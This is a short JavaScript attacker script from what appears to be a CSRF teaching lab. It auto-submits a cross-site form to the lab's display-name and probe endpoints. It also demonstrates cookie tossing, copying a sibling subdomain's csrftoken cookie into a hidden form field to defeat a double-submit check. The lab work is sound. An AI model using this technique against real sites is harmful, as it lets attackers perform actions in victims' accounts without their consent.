// form.html's script, in a file of its own: the attacker's pages allow no inline script (CSP).
// Only these targets: this is the lab's attacker, not a general-purpose form poster.
const TARGETS = {
  "display-name": "/api/display-name/",
  "probe": "/api/cookies/probe/cross-site-form-post/",
  "leak-mistake": "/leaks/csrf-subdomain-wildcard/mistake/display-name/",
  "leak-fixed": "/leaks/csrf-subdomain-wildcard/fixed/display-name/",
};
const params = new URLSearchParams(location.search);
const { api } = await (await fetch("/lab-config.json")).json();
const form = document.querySelector("form");
form.elements.display_name.value = `changed by ${location.hostname}`;
// ?toss=1: cookie tossing. The sibling set its own csrftoken cookie for the whole site
// (sibling/js/sibling.js); the form carries the same value as the token, so the double-submit
// check compares the attacker's cookie with the attacker's token.
const tossed = document.cookie.split("; ").find((pair) => pair.startsWith("csrftoken="));
if (params.get("toss") && tossed) {
  form.append(Object.assign(document.createElement("input"),
    { type: "hidden", name: "csrfmiddlewaretoken", value: tossed.split("=")[1] }));
}
form.action = `${api}${TARGETS[params.get("target")] ?? TARGETS["display-name"]}?run=${encodeURIComponent(params.get("run") ?? "")}`;
form.submit();
